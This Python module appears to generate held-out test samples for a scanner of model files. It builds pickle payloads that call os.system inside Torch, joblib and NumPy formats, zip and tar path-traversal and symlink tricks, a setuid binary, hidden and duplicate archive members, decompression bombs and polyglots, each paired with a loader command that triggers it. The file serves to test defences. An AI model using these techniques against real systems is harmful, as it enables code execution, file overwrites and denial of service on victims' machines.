"""Held-out attacks: containers. Torch, joblib and NumPy files, zip and tar tricks, compressed layers, polyglots."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    FOREIGN,
    HIDDEN,
    MARK,
    NAME,
    PATH,
    PICKLE,
    SLIP,
    STATE,
    SYSTEM,
    TOUCH,
    WRITE,
    Attack,
    Raw,
    build,
    call,
    name,
    new,
    op,
    stream,
)

HONEST = pickle.dumps({"weights": [1.0, 2.0]}, 2)
TORCH = "import torch; torch.load(F, weights_only=False)"


def zipped(*members: tuple[str, bytes], method: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for key, data in members:
            info = zipfile.ZipInfo(key)
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def torch_zip(data: bytes = EVIL, *more: tuple[str, bytes], top: str = "archive", method: int = 0) -> bytes:
    members = [("data.pkl", data), ("byteorder", b"little"), ("version", b"3\n"), *more]
    return zipped(*((f"{top}/{key}", raw) for key, raw in members), method=method)


def tarred(*members: tuple[str, bytes | None, dict[str, object]], form: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        for key, data, extra in members:
            info = tarfile.TarInfo(key)
            info.size = len(data or b"")
            for attribute, value in extra.items():
                setattr(info, attribute, value)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


def _make(
    family: str, loader: str, load: str, rules: frozenset[str], table: dict[str, tuple], file: str
) -> Iterator[Attack]:
    for what, row in table.items():
        does, data, *rest = row
        own = rest[0] if rest and rest[0] else rules
        using = rest[1] if len(rest) > 1 and rest[1] else load
        files = data if isinstance(data, dict) else {file: data}
        proof = rest[2] if len(rest) > 2 else "mark"
        yield Attack(f"{family}/{what}", family, files, loader, using, does, own, "main", proof)


def torch() -> Iterator[Attack]:
    storage = ("storage", name("torch:FloatStorage"), "0", "cpu", 1)
    tensor = call(
        "torch._utils:_rebuild_tensor_v2",
        Raw(op(storage) + b"Q"),
        0,
        (1,),
        (1,),
        False,
        call("collections:OrderedDict"),
    )
    state = stream(op({"w": tensor}), proto=2)
    weights = ("data/0", b"\0\0\x80?")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    odd = ("storage", call("types:SimpleNamespace"), "0", "cpu", 1)
    table = {
        "data-pkl": ("data.pkl calls os.system", torch_zip()),
        "deflated": ("the member is deflated, which torch.save never does", torch_zip(EVIL, method=8)),
        "other-top": ("the archive's folder has a name of its own, with a space and a dot", torch_zip(top="my model.v1")),
        "storage-type": ("the persistent id holds a call in place of the storage's type", torch_zip(stream(Raw(op(("storage", SYSTEM, "0", "cpu", 1)) + b"Q"), proto=2), weights)),
        "persistent-object": ("the persistent id's storage type is an object built with a dtype of choice", torch_zip(stream(Raw(op(odd) + b"Q"), SYSTEM, proto=2), weights), CALL | NAME),
        "beside-tensors": ("a call between the tensors of an honest state_dict", torch_zip(stream(op({"w": tensor, "version": call("os:system", TOUCH)}), proto=2), weights)),
        "legacy-keys": ("the legacy layout: the payload is in the list of keys behind the model", magic + info + HONEST + EVIL, CALL),
        "legacy-info": ("the legacy layout: the payload is in the system information", magic + EVIL, CALL),
        "legacy-magic": ("the legacy layout: the payload is in the magic number itself", EVIL, CALL),
        "rebuild-hooks": ("_rebuild_parameter_with_state sets any attribute, __class__ included", torch_zip(stream(op({"w": tensor}), call("torch._utils:_set_obj_state", name("collections:UserDict"), {"__getitem__": name("os:system")}), proto=4), weights), STATE | CALL, "import torch, collections; torch.load(F, weights_only=False); print('CANARY-7f3a' * ('system' in str(collections.UserDict.__getitem__)))"),
        "tar-legacy": ("the oldest layout: a tar of pickles", tarred(("sys_info", pickle.dumps({}, 2), {}), ("storages", EVIL, {}), ("tensors", EVIL, {}), ("pickle", EVIL, {}))),
        "state-dict-object": ("an honest dict with a class of an imported neighbour", {"m.pt": torch_zip(stream(new("payload:Net"), proto=2)), "payload.py": f"{WRITE}\nclass Net: pass\n".encode()}, NAME),
        "checkpoint-metadata": ("a distributed checkpoint's .metadata is a pickle", {".metadata": EVIL, "__0_0.distcp": b"\0" * 16}, CALL, "import torch.distributed.checkpoint as c; c.load({}, checkpoint_id='.', no_dist=True)"),
    }  # fmt: skip
    del state
    yield from _make("torch", "torch.load(weights_only=False), torch 2.13", TORCH, CALL, table, "m.pt")


def joblib() -> Iterator[Attack]:
    wrapper = {
        "subclass": name("numpy:ndarray"),
        "shape": (1,),
        "order": "C",
        "dtype": call("numpy:dtype", "O8", False, True),
        "allow_mmap": False,
    }
    big = {**wrapper, "shape": (1 << 34,), "dtype": call("numpy:dtype", "f8", False, True)}
    array = lambda state: build(new("joblib.numpy_pickle:NumpyArrayWrapper"), state)
    head = lambda state: stream(array(state))[:-1]
    old = build(
        new("joblib.numpy_pickle_compat:NDArrayWrapper"),
        {"filename": "../../../../tmp/outside/canary.npy", "subclass": name("numpy:ndarray"), "allow_mmap": True},
    )
    zfile = build(
        new("joblib.numpy_pickle_compat:ZNDArrayWrapper"),
        {
            "filename": "z.z",
            "init_args": (name("numpy:ndarray"), (0,), b"b"),
            "state": (1, (1,), call("numpy:dtype", "O8", False, True), False),
        },
    )
    dtype_stream = head(wrapper) + EVIL
    load = "import joblib; print(bytes(joblib.load(F))[:40])"
    squeezed = b"ZF" + hex(len(EVIL)).encode().ljust(19) + zlib.compress(EVIL)
    import_lz4 = "import lz4.frame, joblib; joblib.load(F)"
    table = {
        "plain": ("joblib.load unpickles", EVIL),
        "object-array": ("an inline array of objects is a pickle of its own", dtype_stream),
        "second-array": ("honest array first, then one of objects", stream(array({**wrapper, "dtype": call("numpy:dtype", "u1", False, True), "shape": (3,)}))[:-1] + b"\xffabc0" + array(wrapper) + EVIL),
        "zlib": ("zlib", zlib.compress(EVIL)),
        "zlib-level0": ("zlib that stores", zlib.compress(EVIL, 0)),
        "gzip-name": ("gzip with a name, a comment and an extra field", _gzip_fields(EVIL)),
        "bz2": ("bzip2 of two streams, the pickle lies across", bz2.compress(EVIL[:10]) + bz2.compress(EVIL[10:])),
        "lzma": ("lzma alone", lzma.compress(EVIL, lzma.FORMAT_ALONE)),
        "xz": ("xz of two streams", lzma.compress(EVIL[:7]) + lzma.compress(EVIL[7:])),
        "lz4": ("an LZ4 frame of uncompressed blocks", _lz4(EVIL), None, import_lz4),
        "zfile": ("the format before joblib 0.10", squeezed),
        "ndarray-wrapper": ("the array's file lies outside: NDArrayWrapper of old joblib", stream(old), PATH | CALL | STATE, load),
        "zndarray-wrapper": ("the array's state comes from a compressed file beside; its dtype is object", {"m.pkl": stream(zfile, SYSTEM), "z.z": b"ZF" + hex(8).encode().ljust(19) + zlib.compress(b"\0" * 8)}, CALL | PATH),
        "shape-bomb": ("an inline array of 128 GB", head(big) + b"\x00", BOMB | BROKEN, None, "bomb"),
        "wrapper-subclass": ("the array's class is a callable of choice", stream(array({**wrapper, "subclass": name("os:system")}))[:-1] + stream(SYSTEM), CALL | NAME),
    }  # fmt: skip
    yield from _make("joblib", "joblib.load, joblib 1.6", "import joblib; joblib.load(F)", CALL, table, "m.pkl")


def _gzip_fields(data: bytes) -> bytes:
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = raw.compress(data) + raw.flush()
    head = b"\x1f\x8b\x08\x1c" + b"\0" * 6 + struct.pack("<H", 4) + b"abcd" + b"weights.safetensors\0" + b"exec\0"
    return head + body + struct.pack("<II", zlib.crc32(data), len(data))


def _lz4(data: bytes) -> bytes:
    """A frame with one stored block (header checksum of FLG 0x60, BD 0x40: xxh32 >> 8 & 255)."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 1 << 31) + data + b"\0\0\0\0"


def npy(descr: str, shape: str, body: bytes, order: str = "False", version: int = 1) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': {order}, 'shape': {shape}, }}"
    size = 2 if version == 1 else 4
    header += " " * (-(len(header) + 7 + size) % 64) + "\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(size, "little") + header.encode() + body


def numpy() -> Iterator[Attack]:
    evil = npy("'|O'", "(1,)", EVIL)
    bomb = npy("'|u1'", str((1 << 24,)), b"\0" * (1 << 24))
    table = {
        "object": ("an array of objects", evil),
        "structured-object": ("one field of a record is an object", npy("[('a', '<f4'), ('b', [('c', 'O')])]", "(1,)", EVIL)),
        "version-2": ("the header of version 2", npy("'O'", "()", EVIL, version=2)),
        "fortran": ("an object array in Fortran order with a zero dimension", npy("'|O8'", "(0, 3)", EVIL, "True")),
        "no-magic": ("no .npy at all: numpy.load falls back to pickle", EVIL),
        "npz-object": ("a member of an .npz", zipped(("a.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("b.npy", evil)), None, "import numpy; [v for v in numpy.load(F, allow_pickle=True).values()]"),
        "npz-pickle": ("a member of an .npz that is a pickle by its name", zipped(("a.npy", evil + b"\0" * 64), ("__init__.npy", evil)), None, "import numpy; dict(numpy.load(F, allow_pickle=True))"),
        "npz-twice": ("two members of one name; the second is read", zipped(("a.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("a.npy", evil)), CALL | HIDDEN, "import numpy, warnings; numpy.load(F, allow_pickle=True)['a']"),
        "npz-bomb": ("a deflated array of zeros, 1:1000", _pile([f"a{i}.npy" for i in range(150)], bomb), BOMB, "import numpy; x = dict(numpy.load(F))", "bomb"),
        "shape": ("an array of 2^40 elements", npy("'<f8'", "(1099511627776,)", b""), BOMB | BROKEN, None, "bomb"),
        "several": ("the second array of the file, as numpy.load reads on", npy("'<f4'", "(1,)", b"\0" * 4) + evil, CALL | HIDDEN, "import numpy\nwith open(F, 'rb') as f:\n    numpy.load(f); numpy.load(f, allow_pickle=True)"),
    }  # fmt: skip
    load = "import numpy; numpy.load(F, allow_pickle=True)"
    yield from _make("numpy", "numpy.load(allow_pickle=True), NumPy 2.4", load, CALL, table, "a.npy")


def zips() -> Iterator[Attack]:
    good, evil = torch_zip(HONEST), torch_zip(EVIL)
    local = bytearray(torch_zip(EVIL))
    local[local.index(b"archive/data.pkl")] ^= 0x20
    flags = bytearray(evil)
    at = flags.rindex(b"PK\x01\x02", 0, flags.index(b"PK\x01\x02") + 4)
    flags[at + 8] |= 1
    wide = zipped(*((f"m/{i}", b"") for i in range(3)))
    del wide, at
    slip = zipped(("data.pkl", HONEST), ("../../../MARK", b"x"))
    unzip = "import subprocess; subprocess.run(['unzip', '-o', '-:', F, '-d', '.'])"
    link = io.BytesIO()
    with zipfile.ZipFile(link, "w") as archive:
        info = zipfile.ZipInfo("d")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/tmp")
        archive.writestr("d/MARK", "x")
    case = zipped(("archive/DATA.PKL", EVIL), ("archive/byteorder", b"little"), ("archive/version", b"3\n"))
    own = "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('archive/data.pkl'))"
    first = "import torch; print(torch._C.PyTorchFileReader(F).get_record('data.pkl'))"
    twice = zipped(("archive/data.pkl", HONEST), ("archive/data.pkl", EVIL), ("archive/version", b"3\n"))
    twice_back = zipped(("archive/data.pkl", EVIL), ("archive/data.pkl", HONEST), ("archive/version", b"3\n"))
    stream_reader = "import pickle, struct; d = open(F, 'rb').read(); n, m = struct.unpack_from('<HH', d, 26); pickle.loads(d[30 + n + m:])"
    hidden = bytearray(zipped(("archive/data.pkl", EVIL))[: -(46 + 16 + 22)])
    shifted = bytes(hidden) + good
    app = zipped(("__main__.py", WRITE.encode()), ("archive/data.pkl", HONEST))
    nested = zipped(("model.zip", zipped(("inner.zip", evil))))
    unnest = "import zipfile, io, torch; z = zipfile.ZipFile(F); z = zipfile.ZipFile(io.BytesIO(z.read('model.zip'))); torch.load(io.BytesIO(z.read('inner.zip')), weights_only=False)"
    pile = _pile([str(i) for i in range(200)], b"\0" * (1 << 24))
    table = {
        "duplicate-last": ("two data.pkl, zipfile reads the last one", twice, CALL | HIDDEN, own),
        "duplicate-first": ("two data.pkl, a reader of streams takes the first one", twice_back, CALL | HIDDEN, stream_reader),
        "case": ("torch's reader does not mind upper case", case, CALL | HIDDEN),
        "hidden-local": ("an entry before the archive that no directory lists; readers of streams see it first", shifted, CALL | HIDDEN, stream_reader),
        "prefix-pickle": ("pickle.load reads the pickle before the archive", EVIL + good, CALL | HIDDEN, PICKLE),
        "comment": ("the archive's comment holds a pickle", _comment(good, EVIL), CALL | HIDDEN, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).comment)"),
        "slip-unzip": ("a member above the folder, unpacked by unzip", slip, SLIP, unzip),
        "symlink": ("a link to /tmp and a file through it, unpacked by unzip", link.getvalue(), SLIP, unzip),
        "absolute": ("shutil.unpack_archive of an absolute name, by a loader that joins paths", zipped(("/tmp/MARK", b"x")), SLIP, "import zipfile, os\nfor n in zipfile.ZipFile(F).namelist(): open(os.path.join('.', n), 'wb').write(b'x')"),
        "zipapp": ("python model.zip runs __main__.py", app, FOREIGN | CALL | frozenset({"model-config-remote-code"}), "import runpy; runpy.run_path(F, run_name='__main__')"),
        "nested": ("an archive in an archive in an archive", nested, None, unnest),
        "bomb": ("200 members of 16 MB of zeros", pile, BOMB, "import zipfile; x = [zipfile.ZipFile(F).read(n) for n in zipfile.ZipFile(F).namelist()]", "bomb"),
        "overlap": ("many directory entries share one deflated member", _overlap(), BOMB | HIDDEN, "import zipfile; z = zipfile.ZipFile(F); x = [z.open(i).read() for i in z.infolist()]", "bomb"),
        "extra-pickle": ("a pickle beside data.pkl, unpickled by a loader that reads all .pkl members", torch_zip(HONEST, ("extra/optimizer.pkl", EVIL)), CALL | HIDDEN, "import zipfile, pickle; z = zipfile.ZipFile(F); [pickle.loads(z.read(n)) for n in z.namelist() if n.endswith('.pkl')]"),
        "bzip2-member": ("members compressed by bzip2", zipped(("m.pkl", EVIL), method=12), CALL, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('m.pkl'))"),
        "lzma-member": ("members compressed by LZMA", zipped(("m.pkl", EVIL), method=14), CALL, "import zipfile, pickle; pickle.loads(zipfile.ZipFile(F).read('m.pkl'))"),
        "sfx": ("a shell script before the archive", b"#!/bin/sh\ntouch /tmp/MARK\nexit 0\n" + good, FOREIGN | HIDDEN, "import os; os.system('sh ' + F)"),
        "local-name": ("the local header says another name than the directory", bytes(local), CALL | HIDDEN),
        "many": ("pandas reads a zip of one pickle", zipped(("x", EVIL)), CALL, "import pandas; pandas.read_pickle(F, compression='zip')"),
    }  # fmt: skip
    del first, flags
    yield from _make("zip", "torch.load, zipfile or unzip", TORCH, CALL, table, "m.pt")


def _comment(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _pile(names: list[str], data: bytes) -> bytes:
    """A zip whose members all have the same content, deflated only once."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = raw.compress(data) + raw.flush()
    out, directory, crc = bytearray(), bytearray(), zlib.crc32(data)
    for key in map(str.encode, names):
        common = struct.pack("<HHHHIIIHH", 0, 8, 0, 0x21, crc, len(body), len(data), len(key), 0)
        directory += (
            b"PK\x01\x02" + struct.pack("<HH", 20, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + key
        )
        out += b"PK\x03\x04" + struct.pack("<H", 20) + common + key + body
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(directory), len(out), 0)
    return bytes(out + directory) + b"PK\x05\x06" + end


def _overlap() -> bytes:
    body = zipped(("a", b"\0" * (1 << 24)), method=8)
    at = body.index(b"PK\x01\x02")
    entry, end = body[at:-22], body[-22:]
    count = 400
    many = b"".join(entry for _ in range(count))
    return body[:at] + many + end[:8] + struct.pack("<HHII", count, count, len(many), at) + end[20:]


def tars() -> Iterator[Attack]:
    sym, hard, fifo = tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE
    take = "import tarfile; tarfile.open(F).extractall('.')"
    read = "import os; print(open([n for n in os.listdir('.') if n.startswith('w')][0]).read())"
    x = b"x"
    table = {
        "dots": ("a name above the folder", tarred(("a/../../../../../MARK", x, {}))),
        "absolute": ("an absolute name", tarred(("/tmp/MARK", x, {}))),
        "pax-path": ("a PAX header overrides the harmless name", tarred(("weights.bin", x, {"pax_headers": {"path": "../../../../MARK"}}))),
        "gnu-longname": ("a GNU long name", tarred(("a/" * 60 + "../" * 64 + "MARK", x, {}), form=tarfile.GNU_FORMAT)),
        "symlink-write": ("a link to /tmp, then a file through it", tarred(("d", None, {"type": sym, "linkname": "/tmp"}), ("d/MARK", x, {}))),
        "symlink-read": ("weights that are a link to a file outside", tarred(("w.bin", None, {"type": sym, "linkname": "/tmp/outside/canary.txt"})), None, take + "; " + read),
        "hardlink-read": ("a hard link to a file outside", tarred(("w.bin", None, {"type": hard, "linkname": "/tmp/outside/canary.txt"})), None, take + "; " + read),
        "pax-linkpath": ("a PAX header overrides where the link leads", tarred(("w.bin", None, {"type": sym, "linkname": "b", "pax_headers": {"linkpath": "/tmp/outside/canary.txt"}})), None, take + "; " + read),
        "two-step": ("a link to a link: each alone stays inside", tarred(("a", None, {"type": sym, "linkname": "."}), ("b", None, {"type": sym, "linkname": "a/../../../../.."}), ("b/MARK", x, {})), None, take),
        "gz-slip": ("the same within gzip", gzip.compress(tarred(("../../../../MARK", x, {})), mtime=0)),
        "fifo": ("a pipe in place of the weights: whoever opens it waits for ever", tarred(("w.bin", None, {"type": fifo})), SLIP | FOREIGN | BROKEN | HIDDEN | {"model-unexplained-bytes"}, take + "; open('w.bin').read()", "bomb"),
        "second-archive": ("a second archive behind the end of the first, read with ignore_zeros", tarred(("a.txt", x, {})) + tarred(("../../../../MARK", x, {})), SLIP | HIDDEN, "import tarfile; tarfile.open(F, ignore_zeros=True).extractall('.')"),
        "member-pickle": ("a pickle in a tar in a gzip, as model.tar.gz of hosting services", gzip.compress(tarred(("model/model.pkl", EVIL, {})), mtime=0), CALL, take + "; import pickle; pickle.load(open('model/model.pkl', 'rb'))"),
        "overwrites-code": ("the archive replaces a module beside itself", {"m.tar": tarred(("inference.py", WRITE.encode(), {})), "inference.py": b"pass\n"}, SLIP | FOREIGN | {"model-config-remote-code"}, take + "; import inference"),
        "mode": ("a program with the setuid bit", tarred(("tool", b"#!/bin/sh\ntouch /tmp/MARK\n", {"mode": 0o4755})), FOREIGN, take + "; import os; os.system('./tool')"),
    }  # fmt: skip
    yield from _make("tar", "tarfile.extractall, CPython 3.11", take, SLIP, table, "m.tar")


def layers() -> Iterator[Attack]:
    read = "import pandas as pd; pd.read_pickle(F)"
    deep = EVIL
    for squeeze in (zlib.compress, bz2.compress, lzma.compress, lambda d: gzip.compress(d, mtime=0)):
        deep = squeeze(deep)
    undo = "import gzip, lzma, bz2, zlib, pickle; pickle.loads(zlib.decompress(bz2.decompress(lzma.decompress(gzip.decompress(open(F, 'rb').read())))))"
    zeros = gzip.compress(gzip.compress(b"\0" * (1 << 24), mtime=0) * 128, mtime=0)
    nested = stream(call("pickle:loads", stream(call("pickle:loads", stream(call("pickle:loads", EVIL))))))
    later = stream(op({"blob": EVIL, "note": "unpickled by the program that loads this"}))
    members = gzip.compress(HONEST, mtime=0) + gzip.compress(EVIL, mtime=0)
    table = {
        "gz": ("pandas.read_pickle undoes gzip by the name", {"m.pkl.gz": gzip.compress(EVIL, mtime=0)}),
        "tar-gz": ("pandas.read_pickle undoes tar and gzip by the name", {"m.tar.gz": gzip.compress(tarred(("x", EVIL, {})), mtime=0)}),
        "zst-name": ("pandas.read_pickle undoes xz by the name", {"m.pkl.xz": lzma.compress(EVIL)}),
        "four": ("gzip of xz of bzip2 of zlib", deep, None, undo),
        "gzip-bomb": ("gzip in gzip of 2 GB of zeros", zeros, BOMB, "import gzip; x = gzip.decompress(gzip.decompress(open(F, 'rb').read()))", "bomb"),
        "pickle-in-pickle": ("pickle.loads of pickle.loads of pickle.loads", nested, None, PICKLE),
        "blob": ("a pickle in a byte string, which the program unpickles", later, CALL | HIDDEN, "import pickle; pickle.loads(pickle.load(open(F, 'rb'))['blob'])"),
        "gzip-members": ("the second member of a gzip file", members, CALL | HIDDEN, "import gzip, pickle; f = gzip.open(F); pickle.load(f); pickle.load(f)"),
    }  # fmt: skip
    yield from _make("layers", "pandas.read_pickle, gzip and others", read, CALL, table, "m.bin")


def polyglots() -> Iterator[Attack]:
    evil = torch_zip(EVIL)
    header = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(evil), len(evil))
    tensors = struct.pack("<Q", len(header)) + header + evil
    inside = "import safetensors.numpy; safetensors.numpy.load_file(F); import torch; torch.load(F, weights_only=False)"
    both = EVIL + npy("'<f4'", "(1,)", b"\0" * 4)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + b"\0\0\0\rIHDR"
        + b"\0\0\0\x01\0\0\0\x01\x08\0\0\0\0"
        + b":~\x9bU"
        + b"\0\0\0\0IEND\xaeB`\x82"
    )
    json_zip = b'{"model_type": "bert"}\n' + torch_zip(EVIL)
    tables = {
        "safetensors-torch": ("a valid safetensors file whose tensor is a torch archive, under the name of one", {"pytorch_model.bin": tensors}, HIDDEN | CALL | FOREIGN, inside),
        "pickle-npy": ("pickle.load sees a call, a later reader an array", both, HIDDEN | CALL, PICKLE),
        "png-zip": ("a picture that torch.load opens", png + evil, HIDDEN | CALL | FOREIGN),
        "json-zip": ("a configuration that torch.load opens", json_zip, HIDDEN | CALL | FOREIGN),
        "renamed-safetensors": ("a pickle named .safetensors", {"model.safetensors": EVIL}, CALL, PICKLE),
        "renamed-onnx": ("a torch archive named .onnx", {"model.onnx": evil}, CALL),
        "renamed-text": ("a pickle of protocol 0 named .txt: all its bytes are letters", {"vocab.txt": b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."}, CALL, PICKLE),
        "pickle-tar": ("a pickle that is a tar as well: the name of its first member is the program", _pickle_tar(), HIDDEN | CALL, PICKLE),
        "npy-zip": ("an array with a torch archive behind it", npy("'<f4'", "(1,)", b"\0" * 4) + evil, HIDDEN | CALL),
    }  # fmt: skip
    yield from _make("polyglot", "torch.load and another loader", TORCH, HIDDEN | CALL, tables, "m.bin")


def _pickle_tar() -> bytes:
    return tarred(
        ("cos\nsystem\n(S'" + TOUCH + "'\ntR.", b"x", {}), ("w.bin", b"\0" * 10, {}), form=tarfile.USTAR_FORMAT
    )


def attacks() -> Iterator[Attack]:
    for part in (torch, joblib, numpy, zips, tars, layers, polyglots):
        yield from part()


_ = MARK
